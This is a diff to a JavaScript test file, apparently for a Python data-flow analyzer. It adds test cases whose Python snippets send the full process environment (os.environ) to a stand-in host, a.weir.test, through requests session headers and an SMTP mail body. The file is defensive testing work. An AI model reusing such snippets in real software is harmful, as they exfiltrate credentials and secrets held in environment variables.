@@ -45,6 +45,18 @@ describe('a value on its way through something else', () => {
       `T = type("T", (), {"go": lambda self, x: ${post('x')}})\nT().go(dict(os.environ))`,
     ],
     [
+      'the headers of a session',
+      `s = requests.Session()\ns.headers["x"] = str(dict(os.environ))\ns.get("https://a.weir.test/x")`,
+    ],
+    [
+      'the headers of a session, all at once',
+      `s = requests.Session()\ns.headers.update({"x": str(dict(os.environ))})\ns.get("https://a.weir.test/x")`,
+    ],
+    [
+      'the text of a mail',
+      `import email.message, smtplib\nm = email.message.EmailMessage()\nm.set_content(str(dict(os.environ)))\nsmtplib.SMTP("a.weir.test").send_message(m)`,
+    ],
+    [
       'an object that stands for a library',
       `class L:\n  def __getattr__(self, name): return getattr(requests, name)\nL().post("https://a.weir.test/x", json=dict(os.environ))`,
     ],
@@ -72,6 +84,13 @@ describe('a value on its way through something else', () => {
   ])('not through %s', (_what, source) => {
     expect(sends(source)).toBe(false);
   });
+});
+
+test('what a session signs in with is not what it tells', () => {
+  const source = `import requests\ndef go(password):\n  s = requests.Session()\n  s.headers["x-key"] = password\n  s.delete("https://a.weir.test/x")\n`;
+  const labels = analyzePython(source).flow.flows.map((flow) => flow.labels & LABEL.secretParam);
+
+  expect(labels).toEqual([0]);
 });
 
 describe('what is called with an answer', () => {
